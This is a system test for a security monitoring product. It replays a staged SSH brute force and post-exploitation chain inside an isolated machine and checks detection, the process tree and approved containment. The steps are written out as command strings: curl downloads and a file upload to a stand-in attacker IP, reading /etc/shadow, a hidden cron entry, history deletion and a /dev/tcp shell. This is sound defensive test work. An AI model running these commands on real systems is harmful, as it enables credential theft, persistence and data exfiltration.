"""A staged intrusion, step by step as ATT&CK describes its techniques: one incident, its process tree, and its containment.

The log of authentication goes through the agent's own sensor; executions are rows of the sensor's own form,
and the shell to the network is a process that runs.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from tests.agent.isolated_machine import isolated_machine
from tests.agent.served import make_host, serving_at
from tests.agent.test_response import APPROVER, SECOND, Scene
from tests.waiting import wait_until

from nephoscope.alerts.investigation.process_timeline import read_process_trees
from nephoscope.alerts.rules.rule_files import load_shipped_rules
from nephoscope.alerts.scheduling.schedule import Schedule
from nephoscope.service.approvals import OwnRequestError
from nephoscope.service.response_orders import create_order, decide_order
from nephoscope.state.hosts.response_orders import OrderStatus, ResponseKind
from nephoscope.state.incidents.alerts import StoredAlert
from nephoscope_agent.machine import read_machine
from nephoscope_agent.process_table import Process
from nephoscope_agent.sensor_context import SensorContext
from nephoscope_agent.sensors.processes import execution_row
from nephoscope_agent.settings import Settings

pytestmark = [pytest.mark.system, pytest.mark.full]
ATTACKER = "198.51.100.77"
TABLES = {"Syslog", "DeviceLogonEvents", "DeviceProcessEvents"}
#: T1059.004: a shell whose other end is a neighbor; it reads commands until it is killed.
SHELL = "exec 3<>/dev/tcp/10.9.0.2/22; while :; do read -r -t 60 line; done"
#: pid, parent, program, command; the parent 0 is the shell to the network.
STEPS = {
    "T1021.004 session": (900_001, 1, "/usr/sbin/sshd", "sshd: ada@pts/0"),
    "T1059.004 login shell": (900_002, 900_001, "/bin/bash", "-bash"),
    "T1548.003 sudo": (900_003, 900_002, "/usr/bin/sudo", "sudo -n /bin/bash"),
    "T1033 discovery": (900_010, 0, "/usr/bin/id", "id"),
    "T1082 discovery": (900_011, 0, "/bin/uname", "uname -a"),
    "T1003.008 credentials": (900_012, 0, "/bin/cat", "cat /etc/shadow"),
    "T1053.003 persistence": (900_013, 0, "/bin/sh", "sh -c echo '*/5 * * * * root /dev/shm/.x' >> /etc/cron.d/.sync"),
    "T1105 tool": (900_014, 0, "/usr/bin/curl", f"curl -s http://{ATTACKER}/x -o /tmp/.x"),
    "T1048.003 exfiltration": (900_015, 0, "/usr/bin/curl", f"curl -s -F data=@/tmp/.a.tgz http://{ATTACKER}:8080/u"),
    "T1070.003 traces": (900_016, 0, "/bin/rm", "rm -f /root/.bash_history"),
}  # fmt: skip
EXPECTED = {
    "SSH brute force against web01 from 198.51.100.77 followed by success",
    "Suspicious command on Linux: Shell connected to the network",
    "Data sent out, captured or encrypted by command on Linux: Files sent out",
}
#: Sends rows with the machine's own key, from within its namespace.
SEND = """
import json, sys
from nephoscope_agent.server_connection import ServerConnection
given = json.load(sys.stdin)
print(ServerConnection(given["server"], given["key"]).send("POST", "/admin/v1/agents/report", given["body"])["refused"])
"""


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    root = tmp_path / "root"
    for name in ("etc", "var/log"):
        (root / name).mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0::/root:/bin/bash\nada:x:1234:1234::/home/ada:/bin/bash\n")
    (root / "var/log/auth.log").write_text("")
    with isolated_machine(tmp_path) as machine, serving_at(tmp_path / "data", machine.listener) as server:
        host = make_host(tmp_path / "machine")
        host.prefix = machine.prefix
        host.enrol(server, sensors=["heartbeat", "logins"], responses=["isolate", "kill"], root=str(root))
        host.start()
        wait_until(lambda: bool(server.instance.state.agents.all()[0].health.responses), host.log)
        yield Scene(server, host, machine)
        assert host.process is not None
        host.process.kill()
        host.process.wait()


@pytest.fixture
def shell(scene: Scene) -> Iterator[subprocess.Popen[bytes]]:
    """The shell to the network, on the machine."""
    command = [*scene.machine.prefix, "/bin/bash", "-c", SHELL]
    process = subprocess.Popen(command, stdin=subprocess.PIPE, stderr=subprocess.DEVNULL)
    executable = Path(f"/proc/{process.pid}/exe")
    wait_until(lambda: "bash" in executable.readlink().name, lambda: str(executable.readlink()))
    yield process
    process.kill()
    process.communicate()


def guess_passwords(scene: Scene) -> None:
    """T1110.001: guess passwords over SSH until one is right, in the log that the sensor follows."""
    moment = datetime.now(UTC).isoformat(timespec="seconds")
    lines = [
        f"{moment} web01 sshd[{700 + number}]: Failed password for ada from {ATTACKER} port {40_000 + number} ssh2"
        for number in range(30)
    ]
    log = Path(json.loads((scene.host.folder / "agent.json").read_text())["root"]) / "var/log/auth.log"
    with log.open("a") as stream:
        stream.write("\n".join(lines) + "\n")
    wait_until(lambda: len(scene.server.rows("Syslog")) == 30, scene.host.log)
    with log.open("a") as stream:
        stream.write(f"{moment} web01 sshd[801]: Accepted password for ada from {ATTACKER} port 41000 ssh2\n")
    wait_until(lambda: len(scene.server.rows("Syslog")) == 31, scene.host.log)


def execute_steps(scene: Scene, shell: int) -> None:
    """Send what the sensor of executions makes of the steps."""
    settings = Settings()
    context, now = SensorContext(settings, read_machine(settings)), time.time()
    real = context.processes.read(shell)
    assert real is not None
    made = [
        Process(
            pid, parent or shell, Path(program).name, program, command, 0 if pid > 900_002 else 1234, now, 1
        )
        for pid, parent, program, command in STEPS.values()
    ]
    steps = [*made[:3], Process(shell, 900_003, real.name, real.program, real.command, 0, now, 1), *made[3:]]
    for one in steps:
        context.processes.remember(one)
    rows = [execution_row(context, one, now).values for one in steps]
    body = {"sequence": time.time_ns() // 1000, "rows": {"DeviceProcessEvents": rows}}
    given = {
        "server": scene.server.address,
        "key": (scene.host.folder / "key").read_text().strip(),
        "body": body,
    }
    scene.host.stop()  # a sequence counts once, and the agent has its own
    done = subprocess.run(
        [*scene.machine.prefix, sys.executable, "-c", SEND],
        env={**os.environ, "PYTHONPATH": str(scene.host.program)}, input=json.dumps(given, default=str),
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.stdout.strip() == "[]", done.stderr
    scene.host.start()
    assert len(scene.server.rows("DeviceProcessEvents")) == len(steps)


def detect(scene: Scene) -> None:
    """Run the shipped rules that read what the agent sent."""
    instance = scene.server.instance
    rules = [one for one in load_shipped_rules().rules if TABLES & set(one.tables)]
    assert len(rules) > 10
    now = datetime.now(UTC) + timedelta(seconds=1)
    errors = [
        one.outcome.error
        for one in Schedule(instance.lake, instance.state, rules, "default").run_all_rules_once(now, now)
    ]
    assert not any(errors)


def alerts_of(scene: Scene, number: int) -> list[StoredAlert]:
    state = scene.server.instance.state
    with state.transaction() as session:
        return state.alerts.list_of_incident(session, number)


def test_an_intrusion_is_one_incident_with_its_tree_and_is_contained(
    scene: Scene, shell: subprocess.Popen[bytes]
) -> None:
    guess_passwords(scene)
    execute_steps(scene, shell.pid)
    detect(scene)
    instance = scene.server.instance
    incidents = instance.state.incidents.list_newest("default")
    (incident,) = incidents
    alerts = alerts_of(scene, incident.number)
    names = {str(one.document["AlertName"]) for one in alerts}
    assert names >= EXPECTED, names
    check_tree(scene, alerts)
    contain(scene, shell, incident.number)


def check_tree(scene: Scene, alerts: list[StoredAlert]) -> None:
    """The tree of the shell to the network goes from the session to the last step."""
    trees = read_process_trees(scene.server.instance.lake, alerts, datetime.now(UTC) + timedelta(seconds=1))
    assert [one.error for one in trees.values() if one.error] == []
    largest = max(trees.values(), key=lambda one: len(one.nodes()))
    shown = [(depth, node.command) for depth, node in largest.nodes() if node.command]
    commands = [command for *_, command in STEPS.values()]
    assert [command for _, command in shown if "/dev/tcp" not in command] == commands
    (place,) = [depth for depth, command in shown if "/dev/tcp" in command]
    assert [depth for depth, _ in shown] == [*range(1, place + 1), *[place + 1] * len(commands[3:])]
    assert [node.command for _, node in largest.nodes() if node.alerted and "/dev/tcp" in node.command]


def contain(scene: Scene, shell: subprocess.Popen[bytes], incident: int) -> None:
    """Kill the shell and isolate the machine for the incident: who asks does not approve."""
    program = str(Path(f"/proc/{shell.pid}/exe").readlink())
    before = scene.machine.is_reached(), scene.machine.reaches(22)
    for kind, arguments in (
        (ResponseKind.KILL, {"pid": str(shell.pid), "path": program}),
        (ResponseKind.ISOLATE, dict[str, str]()),
    ):
        order = create_order(scene.acts(SECOND), "web01", kind, arguments, "contain", incident)
        assert (order.status, order.incident) == (OrderStatus.PENDING, incident)
        with pytest.raises(OwnRequestError):
            decide_order(scene.acts(SECOND), order.id, "approve")
        assert shell.poll() is None or kind is ResponseKind.ISOLATE
        decide_order(scene.acts(APPROVER), order.id, "approve")
        done = scene.wait(order)
        assert done.status is OrderStatus.SUCCEEDED, done.message
    assert shell.wait() == -9
    assert (before, (scene.machine.is_reached(), scene.machine.reaches(22))) == ((True, True), (False, False))
